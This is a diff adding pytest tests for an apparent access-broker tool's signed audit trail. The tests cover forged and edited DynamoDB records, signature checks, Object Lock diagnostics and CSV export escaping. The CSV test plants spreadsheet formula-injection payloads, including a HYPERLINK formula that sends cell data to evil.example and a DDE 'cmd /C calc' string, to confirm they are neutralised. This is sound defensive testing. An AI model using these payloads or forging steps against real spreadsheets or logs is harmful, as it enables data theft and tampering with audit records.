@@ -227,3 +227,194 @@ def test_sink_failing_at_issue_time_drops_the_credentials(team):
     assert out.returncode == 5, out.stderr
     assert "central audit sink failed" in out.stderr
     assert not team.credentials_file(ALICE).exists()
+
+
+# ------------------------------------------------------------------ issue 9 items 5 and 10
+
+
+def _set(team: Team, line: str) -> None:
+    """Add a key to the [audit] section (the last one in the config)."""
+    team.config.write_text(team.config.read_text() + line + "\n")
+
+
+def _signing_key(team: Team) -> str:
+    kms = _aws(team, "kms")
+    key = kms.create_key(KeySpec="ECC_NIST_P256", KeyUsage="SIGN_VERIFY")["KeyMetadata"]
+    alias = f"alias/jitctl-audit-{uuid.uuid4().hex[:8]}"
+    kms.create_alias(AliasName=alias, TargetKeyId=key["KeyId"])
+    _set(team, f'kms_key = "{alias}"')
+    return alias
+
+
+def _put_record(team: Team, record: dict, **attributes: str) -> None:
+    """A PutItem with a requester's own keys: any record, any top-level attributes."""
+    _aws(team, "dynamodb").put_item(
+        TableName=team.audit_table,
+        Item={
+            "chain": {"S": record["chain"]},
+            "seq": {"N": str(record["seq"])},
+            "record": {"S": json.dumps(record, sort_keys=True, separators=(",", ":"))},
+            **{k: {"S": v} for k, v in attributes.items()},
+        },
+    )
+
+
+def _forged(chain: str, seq: int, prev: str | None, **fields) -> dict:
+    record = {
+        "ts": "2026-11-21T04:00:00Z",
+        "event": "approved",
+        "request_id": "forged",
+        "actor": "arn:aws:iam::123456789012:user/bob@example.com",
+        "person": BOB,
+        "role": "prod-admin",
+        "chain": chain,
+        "seq": seq,
+        "prev": prev,
+        **fields,
+    }
+    record["hash"] = record_hash(record)
+    return record
+
+
+@pytest.mark.slow
+def test_signed_trail_catches_a_forged_chain_and_an_edited_record(team):
+    _signing_key(team)
+    approved_and_issued(team)
+    out = team.run(BOB, "audit", "verify", "--remote")
+    assert out.returncode == 0, out.stderr
+    assert "every record signed by the audit key" in out.stderr
+    items = _aws(team, "dynamodb").scan(TableName=team.audit_table)["Items"]
+    assert items and all(i["sig"]["S"] and i["key_id"]["S"].startswith("arn:") for i in items)
+
+    # A self-consistent chain attributed to Bob, written with nothing but PutItem.
+    first = _forged("forgedchain", 1, None)
+    _put_record(team, first)
+    _put_record(team, _forged("forgedchain", 2, first["hash"], event="issued"))
+    out = team.run(CAROL, "audit", "verify", "--remote", "--json")
+    assert out.returncode == 6, out.stderr
+    assert f"dynamodb:{team.audit_table}: chain forgedchain seq 1" in out.stderr
+    assert "no signature" in out.stderr and "Traceback" not in out.stderr
+    assert json.loads(out.stdout)["ok"] is False
+    _aws(team, "dynamodb").delete_item(
+        TableName=team.audit_table, Key={"chain": {"S": "forgedchain"}, "seq": {"N": "1"}}
+    )
+    _aws(team, "dynamodb").delete_item(
+        TableName=team.audit_table, Key={"chain": {"S": "forgedchain"}, "seq": {"N": "2"}}
+    )
+    assert team.run(CAROL, "audit", "verify", "--remote").returncode == 0
+
+    # Alice rewrites her newest record (issued -> cancelled) and rehashes it; its signature
+    # attribute stays. Carol has no copy of Alice's log: only the signature can tell.
+    newest = team.audit_records(ALICE)[-1]
+    edited = {**newest, "event": "cancelled"}
+    edited["hash"] = record_hash(edited)
+    _aws(team, "dynamodb").update_item(
+        TableName=team.audit_table,
+        Key={"chain": {"S": newest["chain"]}, "seq": {"N": str(newest["seq"])}},
+        UpdateExpression="SET #r = :r",
+        ExpressionAttributeNames={"#r": "record"},
+        ExpressionAttributeValues={
+            ":r": {"S": json.dumps(edited, sort_keys=True, separators=(",", ":"))}
+        },
+    )
+    out = team.run(CAROL, "audit", "verify", "--remote")
+    assert out.returncode == 6
+    assert f"chain {newest['chain']} seq {newest['seq']}" in out.stderr
+    assert "bad signature" in out.stderr
+
+
+@pytest.mark.slow
+def test_rewritten_person_and_ts_attributes_do_not_hide_records(team):
+    request_id = approved_and_issued(team)
+    ddb = _aws(team, "dynamodb")
+    mine = [i for i in ddb.scan(TableName=team.audit_table)["Items"] if i["person"]["S"] == ALICE]
+    assert mine
+    for item in mine:  # the top-level copies a requester can rewrite without touching a hash
+        ddb.update_item(
+            TableName=team.audit_table,
+            Key={"chain": item["chain"], "seq": item["seq"]},
+            UpdateExpression="SET #p = :p, #t = :t",
+            ExpressionAttributeNames={"#p": "person", "#t": "ts"},
+            ExpressionAttributeValues={
+                ":p": {"S": "nobody@example.com"},
+                ":t": {"S": "1970-01-01T00:00:00Z"},
+            },
+        )
+    found = log_json(team, CAROL, "--person", ALICE, "--since", "1h")
+    assert len(found) == len(mine) and {r["person"] for r in found} == {ALICE}
+    assert request_id in {r["request_id"] for r in found}
+    assert log_json(team, CAROL, "--person", "nobody@example.com") == []
+
+
+def test_csv_export_never_writes_a_formula(team):
+    """Issue 9 item 10: a record's text that a spreadsheet would evaluate."""
+    formulas = {
+        "person": '=HYPERLINK("https://evil.example/?"&A1,"open")',
+        "role": "+1+cmd|' /C calc'!A0",
+        "request_id": "@SUM(1+1)",
+        "event": "-2+3",
+        "actor": "\t=1+1",
+        "ts": "\r=1+1",
+    }
+    _put_record(team, _forged("csvchain", 1, None, **formulas))
+    _put_record(team, _forged("csvchain", 2, None, person=" =1+1", reason="=1+1"))
+    out = team.run(ALICE, "audit", "export", "--format", "csv")
+    assert out.returncode == 0, out.stderr
+    rows = list(csv.DictReader(io.StringIO(out.stdout)))
+    first = next(r for r in rows if json.loads(r["details"])["seq"] == 1)
+    for column, text in formulas.items():  # (text-mode stdout turned the \r into \n)
+        assert first[column][0] == "'" and first[column][1:].strip() == text.strip()
+    second = next(r for r in rows if json.loads(r["details"])["seq"] == 2)
+    assert second["person"] == "' =1+1"
+    assert json.loads(second["details"])["reason"] == "=1+1"  # inside JSON, after "{"
+    assert second["role"] == "prod-admin" and second["hash"] == second["hash"].lstrip("'")
+
+
+def test_doctor_says_plainly_who_can_rewrite_the_central_copy(team):
+    team.pd_user(ALICE)
+    out = team.run(ALICE, "doctor", "--json")
+    assert out.returncode == 0, out.stdout + out.stderr  # warnings do not fail the doctor
+    checks = {c["name"]: c for c in json.loads(out.stdout)["checks"]}
+    for sink in (f"dynamodb:{team.audit_table}", f"s3:{team.audit_bucket}/audit/"):
+        check = checks[f"audit writers: {sink}"]
+        assert check["status"] == "warn" and "can write records to it" in check["detail"]
+        assert "broker" in check["fix"]
+    lock = checks[f"audit object lock: s3:{team.audit_bucket}/audit/"]
+    assert lock["status"] == "warn" and "Object Lock is off" in lock["detail"]
+    human = team.run(ALICE, "doctor")
+    assert human.returncode == 0 and "! audit writers" in human.stderr
+
+
+def test_doctor_checks_object_lock_retention_and_the_signing_key(team):
+    team.pd_user(ALICE)
+    _set(team, "retention_days = 30")
+    out = team.run(ALICE, "doctor", "--json")  # the bucket has no Object Lock: writes would fail
+    assert out.returncode == 2
+    checks = {c["name"]: c for c in json.loads(out.stdout)["checks"]}
+    lock = checks[f"audit object lock: s3:{team.audit_bucket}/audit/"]
+    assert lock["status"] == "fail" and "no Object Lock" in lock["detail"]
+    assert team.run(ALICE, "init").returncode == 2
+
+    locked = f"jitctl-audit-{uuid.uuid4().hex[:8]}"
+    _aws(team, "s3").create_bucket(Bucket=locked, ObjectLockEnabledForBucket=True)
+    team.config.write_text(team.config.read_text().replace(team.audit_bucket, locked))
+    _signing_key(team)
+    out = team.run(ALICE, "doctor", "--json")
+    assert out.returncode == 0, out.stdout
+    checks = {c["name"]: c for c in json.loads(out.stdout)["checks"]}
+    lock = checks[f"audit object lock: s3:{locked}/audit/"]
+    assert lock["status"] == "pass" and "COMPLIANCE, each record kept 30 days" in lock["detail"]
+    key = checks["audit signing key"]
+    assert key["status"] == "warn" and "can sign" in key["detail"]  # no IAM in this moto
+    on_call(team, ALICE)
+    assert team.run(ALICE, "request", "prod-readonly", "--reason", "INC-27").returncode == 0
+    record = team.audit_records(ALICE)[-1]
+    s3 = _aws(team, "s3")
+    (obj,) = [
+        o
+        for o in s3.list_objects_v2(Bucket=locked)["Contents"]
+        if o["Key"].endswith(f"/{record['chain']}/{record['seq']:010d}.json")
+    ]
+    head = s3.head_object(Bucket=locked, Key=obj["Key"])
+    assert head["ObjectLockMode"] == "COMPLIANCE" and head["Metadata"]["jitctl-sig"]
+    assert team.run(ALICE, "audit", "verify", "--remote").returncode == 0
